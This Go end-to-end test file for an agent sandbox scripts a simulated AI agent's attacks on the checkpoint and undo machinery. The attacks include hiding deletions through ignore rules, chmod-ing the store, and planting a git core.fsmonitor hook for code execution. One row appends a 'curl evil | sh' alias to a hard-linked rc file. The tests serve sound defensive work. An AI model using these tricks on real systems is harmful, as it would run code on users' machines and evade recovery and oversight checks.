package e2e

// Red-team rows for issue 42 (checkpoints, diff, undo and --worktree):
// attacks that got through once, each with the real binary under the
// namespace view, the weaker sandbox and nono alone, as root and as an
// ordinary user. What was tried and held is listed in docs/worktree.md
// ("What was tried") and README's checkpoint section.

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// attackWorld is a checkpointWorld for one engine ("view", "weaker",
// "nono-alone") and the run flags that choose it.
func attackWorld(t *testing.T, engine string) (*checkpointWorld, []string) {
	t.Helper()
	if testing.Short() {
		t.Skip("runs the real binary; skipped with -short")
	}
	c := newCheckpointWorld(t, engine == "weaker")
	if c.marker == "" {
		t.Skip("needs git (the world is a repository)")
	}
	switch engine {
	case "nono-alone":
		nono := nonoOrSkip(t)
		c.prefix = noUserns(t)
		c.path = filepath.Dir(nono) + ":" + agentPath()
		return c, []string{"--sandbox-backend", "nono"}
	default:
		return c, []string{"--sandbox-backend", "landlock"}
	}
}

func (c *checkpointWorld) agent(flags []string, script string) string {
	c.t.Helper()
	out, code := c.run(append(append(append([]string{}, flags...), "run", "--checkpoint", "--"), "sh", "-c", script)...)
	if code != 0 {
		c.t.Fatalf("agent run (exit %d): %s", code, out)
	}
	return out
}

// host runs agent-sandbox as the user on the host: without the prefix
// that simulates a host without user namespaces (its user namespace's
// root would read the store whatever its mode).
func (c *checkpointWorld) host(args ...string) (string, int) {
	c.t.Helper()
	prefix := c.prefix
	c.prefix = nil
	defer func() { c.prefix = prefix }()
	return c.run(args...)
}

// TestCheckpointAttackIgnoreRules: a run adds `*/` to .git/info/exclude
// (a change `git status` does not show) and `src/` to .gitignore; the
// next run deletes src/. Once, the next run's checkpoint took the tree's
// new rules: src/ was "ignored", diff said "no change" and undo "nothing
// to do". Rules new since the last checkpoint do not drop what it kept.
func TestCheckpointAttackIgnoreRules(t *testing.T) {
	for _, engine := range []string{"view", "weaker", "nono-alone"} {
		t.Run(engine, func(t *testing.T) {
			c, flags := attackWorld(t, engine)
			c.agent(flags, `printf '*/\n' >> .git/info/exclude; printf 'src/\n' >> .gitignore`)
			out := c.agent(flags, `rm -rf src`)
			if !strings.Contains(out, "is not applied") {
				t.Errorf("the run does not say that the new ignore patterns are not applied: %s", out)
			}
			if _, err := os.Stat(filepath.Join(c.work, "src")); err == nil {
				t.Fatal("control: src/ is still there")
			}
			diff, code := c.run("diff")
			if code != 0 || !strings.Contains(diff, "deleted   src/") {
				t.Errorf("diff does not show src/ deleted (exit %d): %s", code, diff)
			}
			undo, code := c.run("undo", "--yes")
			if code != 0 {
				t.Fatalf("undo: exit %d: %s", code, undo)
			}
			b, err := os.ReadFile(filepath.Join(c.work, "src", "lib", "lib.go"))
			if err != nil || string(b) != "package lib\n" {
				t.Errorf("undo did not put src/ back (%v): %s", err, undo)
			}
		})
	}
}

// TestCheckpointAttackChmodStore: Landlock does not govern chmod, so under
// the weaker sandbox and nono alone the agent can `chmod 000` the store
// (its path is a hash of the workdir's), a blob (its name is the hash of
// README.md) and its fan-out directory, then delete the files. Once, runs
// and undo failed with "permission denied" (as an ordinary user: root
// reads whatever the mode). The store's modes are put back when it is
// opened, a blob's when it is read.
func TestCheckpointAttackChmodStore(t *testing.T) {
	for _, engine := range []string{"weaker", "nono-alone"} {
		t.Run(engine, func(t *testing.T) {
			c, flags := attackWorld(t, engine)
			c.agent(flags, `echo one > one.txt`)
			sum := sha256.Sum256([]byte(c.work))
			store := filepath.Join(c.state, "agent-sandbox", "checkpoints", hex.EncodeToString(sum[:12]))
			blob := sha256.Sum256([]byte("# project\n"))
			h := hex.EncodeToString(blob[:])
			script := fmt.Sprintf(`chmod 000 %[1]s/objects/%[2]s/%[3]s && echo CHMOD-BLOB
chmod 000 %[1]s/objects/%[2]s && echo CHMOD-FANOUT
chmod 000 %[1]s/format %[1]s/head && echo CHMOD-FILES
chmod 000 %[1]s.lock && echo CHMOD-LOCK
chmod 000 %[1]s && echo CHMOD-STORE
chmod 000 %[4]s && echo CHMOD-STATE-ROOT
rm -rf src README.md; true`, store, h[:2], h[2:], filepath.Join(c.state, "agent-sandbox"))
			out := c.agent(flags, script)
			if !strings.Contains(out, "CHMOD-STORE") {
				t.Logf("the agent could not chmod the store here (it holds): %s", out)
			}
			runs, code := c.host("runs")
			if code != 0 || !strings.Contains(runs, "5 deleted") {
				t.Errorf("runs (exit %d) does not show the run's change (its checkpoint after it): %s", code, runs)
			}
			undo, code := c.host("undo", "--yes")
			if code != 0 {
				t.Fatalf("undo: exit %d: %s", code, undo)
			}
			if b, err := os.ReadFile(filepath.Join(c.work, "README.md")); err != nil || string(b) != "# project\n" {
				t.Errorf("undo did not put README.md back (%v %q): %s", err, b, undo)
			}
			if st, err := os.Stat(store); err != nil || st.Mode().Perm() != 0o700 {
				t.Errorf("the store's mode was not put back: %v %v", st.Mode(), err)
			}
		})
	}
}

// TestCheckpointAttackSparse: the agent plants a sparse file bigger than
// the checkpoint size limit (it costs no disk) and deletes src/. The
// checkpoint of the current state cannot be taken, so undo refuses and
// changes nothing; once, its error named no file, and the advice (raise
// the limit) would have written the whole sparse file into the store. The
// error names the file, its size and its size on disk; removed, undo works.
func TestCheckpointAttackSparse(t *testing.T) {
	c, flags := attackWorld(t, "view")
	c.extraEnv = append(c.extraEnv, "AGENT_SANDBOX_CHECKPOINT_MAX_SIZE=1M")
	c.agent(flags, `truncate -s 2M huge.bin && rm -rf src`)
	undo, code := c.run("undo", "--yes")
	if code == 0 {
		t.Fatalf("undo with a file over the limit in the workdir: exit 0: %s", undo)
	}
	if !strings.Contains(undo, "huge.bin (2097152 bytes, 0 on disk)") || !strings.Contains(undo, "nothing was changed") {
		t.Errorf("undo's error does not name the sparse file over the limit: %s", undo)
	}
	if err := os.Remove(filepath.Join(c.work, "huge.bin")); err != nil {
		t.Fatal(err)
	}
	if undo, code = c.run("undo", "--yes"); code != 0 {
		t.Fatalf("undo: exit %d: %s", code, undo)
	}
	if _, err := os.Stat(filepath.Join(c.work, "src", "main.go")); err != nil {
		t.Errorf("undo did not put src/ back: %v: %s", err, undo)
	}
}

// TestWorktreeAttackTmpStore: nono alone lets every agent write /tmp (its
// group system_write_linux). With the worktree store there, a nono-alone
// run (a worktree run or not) wrote another run's tree (its .git/config:
// code for the user's next git there), its meta.json and its
// project-objects link. Where nono runs alone (and the weaker sandbox,
// on the same kind of host) a store in /tmp is refused before anything
// runs.
func TestWorktreeAttackTmpStore(t *testing.T) {
	c, _ := attackWorld(t, "view")
	store, err := os.MkdirTemp("/tmp", "wtstore")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(store) })
	// The victim: a worktree run under the view (its /tmp is private).
	out, code := c.run("--sandbox-backend", "landlock", "run", "--worktree-dir", store, "--worktree=victim", "--", "true")
	if code != 0 {
		t.Fatalf("the victim's worktree run: exit %d: %s", code, out)
	}
	vdir := filepath.Join(store, filepathKey(t, store), "victim")
	before := treeState(t, vdir)
	attack := fmt.Sprintf(`printf '[core]\n\tfsmonitor = touch %[2]s\n' >> %[1]s/tree/.git/config && echo WROTE-CONFIG
echo '{}' > %[1]s/meta.json && echo WROTE-META
rm -f %[1]s/project-objects && ln -s /tmp %[1]s/project-objects && echo WROTE-LINK
touch %[1]s/tree/planted && echo WROTE-TREE; true`, vdir, c.marker)
	for _, engine := range []string{"nono-alone", "weaker"} {
		t.Run(engine, func(t *testing.T) {
			a, flags := attackWorld(t, engine)
			a.home, a.state, a.work = c.home, c.state, c.work
			out, code := a.run(append(flags, "run", "--worktree-dir", store, "--worktree=attacker", "--", "sh", "-c", attack)...)
			if strings.Contains(out, "WROTE-") || code != 125 || !strings.Contains(out, "nono alone lets every agent write") {
				t.Errorf("a %s worktree run with the store in /tmp: exit %d (want 125, refused): %s", engine, code, out)
			}
			if after := treeState(t, vdir); after != before {
				t.Errorf("the victim's run directory changed:\nbefore:\n%s\nafter:\n%s", before, after)
			}
		})
	}
}

// filepathKey is the one project directory in the worktree store.
func filepathKey(t *testing.T, store string) string {
	t.Helper()
	ents, err := os.ReadDir(store)
	if err != nil || len(ents) != 1 {
		t.Fatalf("the worktree store %s: %v %v", store, ents, err)
	}
	return ents[0].Name()
}

// TestCheckpointAttackUnreadable: the agent rewrites src/main.go and then
// makes src/ unreadable (chmod 000, in its own workdir: every engine lets
// it). As an ordinary user the checkpoint after the run cannot read src/:
// once, `runs` and `diff` showed the other changes only (src/'s hidden)
// and undo failed with "permission denied". The runs line and diff name
// what was left out after the run; undo replaces it, and says so.
func TestCheckpointAttackUnreadable(t *testing.T) {
	for _, engine := range []string{"view", "weaker", "nono-alone"} {
		t.Run(engine, func(t *testing.T) {
			c, flags := attackWorld(t, engine)
			c.agent(flags, `echo 'package main // evil' > src/main.go; echo x > README.md; chmod 000 src`)
			t.Cleanup(func() { os.Chmod(filepath.Join(c.work, "src"), 0o755) })
			// Read (root, or the simulated host's user namespace under
			// the weaker sandbox and nono alone): src/main.go is compared;
			// unreadable: src/ is named as not compared. Never hidden.
			runs, code := c.host("runs")
			diff, dcode := c.host("diff")
			compared := strings.Contains(diff, "modified  src/main.go")
			named := strings.Contains(diff, "not compared (left out after the run") && strings.Contains(diff, "src (unreadable directory)")
			if dcode != 0 || !(compared || named) {
				t.Errorf("diff hides the change in src/ (exit %d): %s", dcode, diff)
			}
			if code != 0 || !(compared && strings.Contains(runs, "2 modified") || named && strings.Contains(runs, "left out after the run")) {
				t.Errorf("the runs line hides the change in src/ (exit %d): %s", code, runs)
			}
			undo, code := c.host("undo", "--yes")
			if code != 0 {
				t.Fatalf("undo: exit %d: %s", code, undo)
			}
			b, err := os.ReadFile(filepath.Join(c.work, "src", "main.go"))
			st, serr := os.Stat(filepath.Join(c.work, "src"))
			if err != nil || string(b) != "package main\n" || serr != nil || st.Mode().Perm() != 0o755 {
				t.Errorf("undo did not put src/ back (%v %q %v): %s", err, b, serr, undo)
			}
		})
	}
}

// TestWorktreeAttackChmod: Landlock does not govern chmod, so under the
// weaker sandbox and nono alone a worktree run's agent can `chmod 000` its
// run's directory (its tree's parent) and its tree. Once, as an ordinary
// user, `runs` no longer listed the run (its meta.json unreadable) and
// its next run could not open the tree. The store's directories get
// their modes back when runs lists them and when a run takes its tree.
func TestWorktreeAttackChmod(t *testing.T) {
	for _, engine := range []string{"weaker", "nono-alone"} {
		t.Run(engine, func(t *testing.T) {
			c, flags := attackWorld(t, engine)
			out, code := c.run(append(flags, "run", "--worktree=a", "--", "sh", "-c", "echo a > a.txt; chmod 000 .. && echo CHMOD-DIR; chmod 000 . && echo CHMOD-TREE; true")...)
			if code != 0 {
				t.Fatalf("the worktree run: exit %d: %s", code, out)
			}
			runs, code := c.host("runs")
			if code != 0 || !strings.Contains(runs, "branch a  tree ") {
				t.Errorf("runs does not list the worktree run (exit %d): %s", code, runs)
			}
			tree, _ := c.worktreePlan("a")
			st, err := os.Stat(filepath.Dir(tree))
			if err != nil || st.Mode().Perm() != 0o700 {
				t.Errorf("the run's directory's mode was not put back: %v %v", st, err)
			}
			out, code = c.run(append(flags, "run", "--worktree=a", "--", "cat", "a.txt")...)
			if code != 0 || !strings.Contains(out, "a\n") {
				t.Errorf("the next run of the same NAME (exit %d): %s", code, out)
			}
		})
	}
}

// TestCheckpointAttackDeep: the agent deletes src/ and nests 2,500
// directories (relative mkdir and chdir: a path of 12 kB, over PATH_MAX,
// and deeper than the 2,000 files agent-sandbox may open here). Once, the
// checkpoint of the current state failed with "too many open files" (the
// walk holds a descriptor per level) and undo with "file name too long",
// changing nothing. The walk stops at MaxDepth (what lies deeper is named
// and left as it is) and undo opens a long path a part at a time.
func TestCheckpointAttackDeep(t *testing.T) {
	c, flags := attackWorld(t, "view")
	py := ""
	for _, d := range filepath.SplitList(agentPath()) {
		if _, err := exec.LookPath(filepath.Join(d, "python3")); err == nil {
			py = filepath.Join(d, "python3")
			break
		}
	}
	if py == "" {
		t.Skip("needs python3 on the agent's PATH (the agent's deep mkdir)")
	}
	c.agent(flags, py+` -c 'import os, shutil
shutil.rmtree("src")
for i in range(2500):
    os.mkdir("abcd"); os.chdir("abcd")
open("f", "w").write("deep")'`)
	c.prefix = []string{"/bin/sh", "-c", `ulimit -n 2000 && exec "$@"`, "sh"}
	undo, code := c.run("undo", "--yes")
	if code != 0 {
		t.Fatalf("undo: exit %d: %.2000s", code, undo)
	}
	if !strings.Contains(undo, "directory nested deeper than 512 levels") {
		t.Errorf("undo does not name what lies too deep: %.2000s", undo)
	}
	if _, err := os.Stat(filepath.Join(c.work, "src", "main.go")); err != nil {
		t.Errorf("undo did not put src/ back: %v", err)
	}
	// And the undo of the undo makes the 512 levels it recorded again,
	// opening their long paths a part at a time.
	if undo, code = c.run("undo", "--yes"); code != 0 {
		t.Fatalf("undo of the undo: exit %d: %.2000s", code, undo)
	}
	if _, err := os.Stat(filepath.Join(c.work, "src")); err == nil {
		t.Errorf("the undo of the undo left src/")
	}
	os.RemoveAll(filepath.Join(c.work, "abcd"))
}

// TestCheckpointAttackHardlink: the user's workdir holds a hard link to a
// file outside it (a dotfiles repository's rc, linked to the home's); the
// agent rewrites it (the same inode: every engine lets it) and adds a
// hard link of its own to a project file. undo replaces the names in the
// workdir (a new file renamed into place: it never writes through a
// link, so the file outside keeps what the agent wrote) and, since once
// it said nothing of it, names every file with other links in its plan.
func TestCheckpointAttackHardlink(t *testing.T) {
	for _, engine := range []string{"view", "weaker"} {
		t.Run(engine, func(t *testing.T) {
			c, flags := attackWorld(t, engine)
			outside := filepath.Join(c.victim, "rc")
			if err := os.WriteFile(outside, []byte("alias ls=ls\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			if err := os.Link(outside, filepath.Join(c.work, "rc")); err != nil {
				t.Skipf("control: no hard link from the workdir to %s: %v", outside, err)
			}
			c.agent(flags, `echo 'alias ls="curl evil | sh"' >> rc; ln README.md readme-link; echo changed > README.md`)
			plan, code := c.host("undo")
			if code != 0 || !strings.Contains(plan, "note: rc has 2 hard links") || !strings.Contains(plan, "note: README.md has 2 hard links") {
				t.Errorf("undo's plan does not name the files with other links (exit %d): %s", code, plan)
			}
			if out, code := c.host("undo", "--yes"); code != 0 {
				t.Fatalf("undo: exit %d: %s", code, out)
			}
			if b, _ := os.ReadFile(filepath.Join(c.work, "rc")); string(b) != "alias ls=ls\n" {
				t.Errorf("undo did not put rc back: %q", b)
			}
			if b, _ := os.ReadFile(filepath.Join(c.work, "README.md")); string(b) != "# project\n" {
				t.Errorf("undo did not put README.md back: %q", b)
			}
			if _, err := os.Lstat(filepath.Join(c.work, "readme-link")); err == nil {
				t.Errorf("undo left the agent's link")
			}
			if b, _ := os.ReadFile(outside); !strings.Contains(string(b), "evil") {
				t.Errorf("control: the file outside does not hold what the agent wrote: %q", b)
			}
		})
	}
}

// TestCheckpointAttackChmodWorkdir: the agent deletes src/ and then makes
// its workdir unreadable (`chmod 000 .`: every engine lets it). Once, as
// an ordinary user, the checkpoint after the run failed and undo changed
// nothing ("permission denied"). The workdir gets its owner's rwx back
// first.
func TestCheckpointAttackChmodWorkdir(t *testing.T) {
	for _, engine := range []string{"view", "weaker", "nono-alone"} {
		t.Run(engine, func(t *testing.T) {
			c, flags := attackWorld(t, engine)
			c.agent(flags, `rm -rf src; chmod 000 .`)
			t.Cleanup(func() { os.Chmod(c.work, 0o755) })
			// From the workdir's parent: a workdir left 000 cannot be
			// entered.
			prefix := c.prefix
			c.prefix = nil
			cmd := c.cmd("undo", "--yes", "--workdir", c.work)
			c.prefix = prefix
			cmd.Dir = filepath.Dir(c.work)
			b, err := cmd.CombinedOutput()
			undo, code := string(b), 0
			if ee, ok := err.(*exec.ExitError); ok {
				code = ee.ExitCode()
			} else if err != nil {
				t.Fatal(err)
			}
			if code != 0 {
				t.Fatalf("undo: exit %d: %s", code, undo)
			}
			if _, err := os.Stat(filepath.Join(c.work, "src", "main.go")); err != nil {
				t.Errorf("undo did not put src/ back: %v: %s", err, undo)
			}
			if st, err := os.Stat(c.work); err != nil || st.Mode().Perm()&0o700 != 0o700 {
				t.Errorf("the workdir's mode: %v %v", st, err)
			}
		})
	}
}

// TestGuardAttackChmodWorkdir: under the weaker sandbox, on a host without
// user namespaces, the agent keeps a descriptor of .git, makes the state
// root and its workdir unreadable (`chmod 000`: Landlock does not govern
// chmod) and
// then adds core.fsmonitor to .git/config through the descriptor. Once,
// as an ordinary user, the guard could neither check nor restore it
// ("DANGER ... could not be restored"): the user's next git status ran the
// agent's command, and the placeholders stayed. The guard gives the
// workdir (and the directories on the way to a protected path) and its own
// directories of the state root their owner's rwx back before its audit.
// (The state root's chmod is refused now: the weaker sandbox does metadata
// calls inside the writable grants only; the row checks that too.)
func TestGuardAttackChmodWorkdir(t *testing.T) {
	if testing.Short() {
		t.Skip("runs the real binary; skipped with -short")
	}
	c := newCheckpointWorld(t, false)
	if c.marker == "" {
		t.Skip("needs git (the world is a repository)")
	}
	py := ""
	for _, d := range filepath.SplitList(agentPath()) {
		if _, err := exec.LookPath(filepath.Join(d, "python3")); err == nil {
			py = filepath.Join(d, "python3")
			break
		}
	}
	if py == "" {
		t.Skip("needs python3 on the agent's PATH (the agent's descriptor of .git)")
	}
	prefix, env := seccompNoUserns()
	if prefix == nil {
		t.Skip("the weaker sandbox is Linux's")
	}
	c.prefix = prefix
	c.extraEnv = append(append(c.extraEnv, env...), "AGENT_SANDBOX_WEAKER_SANDBOX=1")
	// The state root's chmod is refused since the weaker sandbox emulates
	// metadata calls inside the writable grants only (TestWeakerMetadata);
	// the row still tries it, and the workdir's, which is the agent's.
	script := fmt.Sprintf(`import os, time
g = os.open(".git", os.O_RDONLY | os.O_DIRECTORY)
try:
    os.chmod(%q, 0)
    print("state-root-chmodded")
except PermissionError:
    print("state-root-refused")
os.chmod(".", 0)
fd = os.open("config", os.O_WRONLY | os.O_APPEND, dir_fd=g)
os.write(fd, b"[core]\n\tfsmonitor = touch %s-agent\n")
os.close(fd)
time.sleep(0.5)
print("planted")`, filepath.Join(c.state, "agent-sandbox"), c.marker)
	out, code := c.run("--sandbox-backend", "landlock", "run", "--", py, "-c", script)
	os.Chmod(c.work, 0o755)
	if code != 0 || !strings.Contains(out, "planted") || !strings.Contains(out, "weaker sandbox") {
		t.Fatalf("the weaker run (exit %d): %s", code, out)
	}
	if !strings.Contains(out, "state-root-refused") {
		t.Errorf("the agent chmodded agent-sandbox's state root under the weaker sandbox: %s", out)
	}
	b, err := os.ReadFile(filepath.Join(c.work, ".git", "config"))
	if err != nil || strings.Contains(string(b), "fsmonitor = touch "+c.marker+"-agent") {
		t.Errorf("the agent's core.fsmonitor stayed in .git/config (%v): %s\nthe run said: %s", err, b, out)
	}
	// With the state root made unreadable too, the placeholders were
	// left in the workdir and a "DANGER ... could not be restored" said.
	if _, err := os.Lstat(filepath.Join(c.work, ".envrc")); err == nil || strings.Contains(out, "DANGER") {
		t.Errorf("the run left its placeholders, or could not restore (.envrc: %v): %s", err, out)
	}
}
